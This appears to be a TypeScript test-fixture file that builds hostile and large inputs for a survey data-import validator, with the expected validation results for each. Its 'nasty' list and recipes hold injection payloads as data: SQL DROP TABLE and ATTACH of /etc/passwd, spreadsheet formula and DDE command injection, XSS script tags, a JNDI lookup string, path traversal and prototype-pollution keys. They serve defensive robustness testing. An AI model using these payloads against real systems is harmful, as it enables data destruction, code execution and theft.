import { type Ids, type Recipe, rawJson, table, utrv } from './recipe.ts';

const created = '2020-02-02T10:00:00.000Z';
const traversal = '../../../../etc/passwd';
const nasty: readonly string[] = [
  "'); DROP TABLE surveys; --",
  "\"; ATTACH '/etc/passwd' AS x; --",
  '=HYPERLINK("http://elsewhere.invalid","click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '\u001b[2J\u001b]0;owned\u0007\u001b[31mred',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '\u0024{jndi:ldap://elsewhere.invalid/a} {{7*7}} %s %n',
  'line one\r\nline two\u0000end\u2028\u202Egnp.exe',
];
/** Texts that the lake's rules read as numbers; the others are not plain decimals. */
const plainNumbers: readonly string[] = ['-12.5', '1e6', ' 42 ', '0.10'];
const oddNumbers: readonly string[] = [
  '1,234.5',
  '1 234',
  '1.234,5',
  '0x10',
  '١٢٣',
  '1_000',
  'NaN',
  'Infinity',
  '12 %',
  '½',
];

/** Odd or malicious, but mostly valid by the letter of the interface. */
export const hostileRecipes = {
  'path-like-ids': {
    description: 'ids that are paths, of an initiative, a survey and a value record',
    target: 'utrv',
    expected: [
      { code: 'invalid_id', severity: 'rejected' },
      { code: 'invalid_id', severity: 'rejected' },
      { code: 'invalid_id', severity: 'rejected' },
    ],
    make: (ids) => ({
      initiatives: [{ _id: traversal, name: 'Traversal', parentId: ids.root, created }],
      surveys: [{}, { _id: traversal }],
      utrvs: [utrv(ids, 2, { _id: traversal })],
    }),
  },
  'hostile-names': {
    description: 'SQL, formulas, terminal escapes and scripts in names, texts and codes',
    target: 'utrv',
    expected: [],
    make: (ids) => ({
      initiatives: nasty.map((name, i) => ({ _id: ids.initiative(i), name, parentId: ids.root, created })),
      surveys: [{ name: nasty[0] }],
      body: { name: nasty[0] },
      utrvs: nasty.map((text, i) => named(ids, i + 2, text)),
    }),
  },
  'prototype-keys': {
    description: '__proto__, constructor and the like as keys and codes',
    target: 'utrv',
    expected: [],
    make: (ids) => ({
      surveys: [{}],
      utrvs: [
        utrv(ids, 2, {
          valueType: 'textValueList',
          value: undefined,
          valueData: parsed(
            '{"data":{"__proto__":"a","constructor":"b","hasOwnProperty":"c"},"__proto__":{"polluted":true}}',
          ),
        }),
        utrv(ids, 3, { notes: parsed('{"__proto__":{"stakeholder":1}}') }),
        table(ids, 4, [{ code: '__proto__', name: 'x', type: 'number' }], [[{ code: '__proto__', value: 7 }]]),
      ],
    }),
  },
  'lone-surrogates': {
    description: 'half a surrogate pair in the names of a node and a tracker, in a text and in a unit',
    target: 'utrv',
    expected: Array.from({ length: 4 }, () => ({ code: 'invalid_text', severity: 'degraded' })),
    make: (ids) => ({
      initiatives: [{ _id: ids.initiative(0), name: 'half \ud83d', parentId: ids.root, created }],
      surveys: [{}],
      utrvs: [named(ids, 2, 'left \ud83d and \udc00 right')],
    }),
  },
  'utrv-of-another-initiative': {
    description: 'a value record of a node other than that of its survey, and not listed either',
    target: 'utrv',
    expected: [{ code: 'contradicts_survey', severity: 'notice' }],
    make: (ids) => ({ surveys: [{}], utrvs: [utrv(ids, 2, { initiativeId: 'badda7a4ffffffffffffffff' })] }),
  },
  'number-edges': {
    description: 'minus zero, 2^53+1, the smallest and the largest double',
    target: 'utrv',
    expected: [{ code: 'number_too_large', severity: 'degraded' }],
    make: (ids) => ({
      surveys: [{}],
      utrvs: ['-0', '9007199254740993', '5e-324', '1.7976931348623157e308', '0.1000000000000000055511151231257827'].map(
        (text, i) => utrv(ids, i + 2, { value: rawJson(text) }),
      ),
    }),
  },
  'numbers-as-strings': {
    description: 'numbers written as strings in many notations',
    target: 'utrv',
    expected: oddNumbers.map(() => ({ code: 'not_a_number', severity: 'degraded' })),
    make: (ids) => ({
      surveys: [{}],
      utrvs: [...plainNumbers, ...oddNumbers].map((data, i) =>
        utrv(ids, i + 2, { value: undefined, valueData: { data } }),
      ),
    }),
  },
} as const satisfies Record<string, Recipe>;

/** Valid, but large enough to reveal what does not scale; only by name, never part of `'all'`. */
export const bulkRecipes = {
  'wide-table': {
    description: 'one table of 1,000 rows and 50 columns',
    target: 'utrv',
    expected: [],
    make: (ids) => ({ surveys: [{}], utrvs: [wideTable(ids)] }),
  },
  'huge-survey': {
    description: 'one survey of 200,000 value records',
    target: 'survey',
    expected: [],
    make: (ids) => ({ surveys: [{}], utrvs: manyRecords(ids, 200_000) }),
  },
  'deep-hierarchy': {
    description: 'a chain of 200 nodes below the group',
    target: 'initiative',
    expected: [],
    make: (ids) => ({ initiatives: chain(ids, 200, (n) => n - 1) }),
  },
  'hierarchy-too-deep': {
    description: 'a chain of 2,300 nodes below the group',
    target: 'initiative',
    expected: [{ code: 'hierarchy_depth', severity: 'degraded' }],
    make: (ids) => ({ initiatives: chain(ids, 2_300, (n) => n - 1) }),
  },
  'many-initiatives': {
    description: '50,000 nodes, nine below each',
    target: 'initiative',
    expected: [],
    make: (ids) => ({ initiatives: chain(ids, 50_000, (n) => Math.floor((n - 1) / 9)) }),
  },
} as const satisfies Record<string, Recipe>;

function named(ids: Ids, index: number, text: string): object {
  return utrv(ids, index, {
    valueType: 'text',
    value: undefined,
    valueData: { data: text },
    universalTracker: { name: text, unit: text.slice(0, 20) },
  });
}

function wideTable(ids: Ids): object {
  const codes = Array.from({ length: 50 }, (_, i) => `c${String(i).padStart(2, '0')}`);
  const rows = Array.from({ length: 1000 }, (_, row) => codes.map((code, i) => ({ code, value: row * 50 + i })));
  return table(
    ids,
    2,
    codes.map((code) => ({ code, name: code, type: 'number' })),
    rows,
  );
}

/** Records of a single tracker, unlike any real survey, so that only the number of records grows. */
function* manyRecords(ids: Ids, count: number): Generator<unknown> {
  for (let n = 2; n < count; n++) yield utrv(ids, n, { universalTrackerId: ids.tracker(2 + (n % 400)) });
}

function* chain(ids: Ids, count: number, parent: (n: number) => number): Generator<unknown> {
  for (let n = 0; n < count; n++) {
    const parentId = n === 0 ? ids.root : ids.initiative(parent(n));
    yield { _id: ids.initiative(n), name: `Node ${n}`, parentId, created };
  }
}

function parsed(text: string): unknown {
  return JSON.parse(text);
}
